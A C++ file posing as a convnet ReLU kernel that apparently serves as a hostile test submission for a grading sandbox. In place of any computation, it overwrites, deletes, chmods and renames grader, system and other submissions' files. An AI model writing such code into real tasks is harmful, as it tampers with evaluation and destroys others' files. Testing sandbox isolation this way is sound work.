#include "convnet.hpp"

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>
#include <stdexcept>
#include <string>

namespace convnet {

void relu_forward(TensorView<const float, 4> x, TensorView<float, 4> y) {
  (void)x;
  (void)y;
  std::string wrote = "wrote:";
  for (const char* target : {"@CANARY@", "@CLASS@/honest/convnet.cpp", "/job/program", "/job/hostile_mark",
                             "/usr/bin/hostile_mark", "/hostile_mark", "/etc/hostile_mark",
                             "/dev/hostile_mark", "/inc/convnet.hpp", "/runner/runner.o"}) {
    const int file = open(target, O_WRONLY | O_CREAT, 0666);
    if (file < 0) continue;
    (void)!write(file, "owned", 5);
    wrote += std::string(" ") + target;
  }
  for (const char* target : {"/job/program", "/usr/bin/true", "@CANARY@", "@CLASS@/honest"}) {
    if (unlink(target) == 0 || chmod(target, 0777) == 0 || rename(target, "/tmp/hostile_mark") == 0)
      wrote += std::string(" -") + target;
  }
  throw std::runtime_error(wrote + " nothing else");
}

}  // namespace convnet
